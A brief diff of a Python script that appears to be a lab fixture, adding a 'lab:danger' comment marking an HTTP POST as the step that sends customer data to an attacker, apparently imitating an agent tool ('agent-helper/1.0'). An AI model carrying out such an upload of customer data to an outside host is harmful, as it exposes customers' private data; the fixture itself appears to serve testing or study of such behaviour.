@@ -47,6 +47,7 @@ def main():
                      "User-Agent": "agent-helper/1.0"})
         opener = urllib.request.build_opener(handler)
         try:
+            # lab:danger: the POST that ships the customer data to the attacker
             with opener.open(req, timeout=3) as resp:
                 resp.read(4096)
                 print(f"upload accepted ({how}): HTTP {resp.status} "
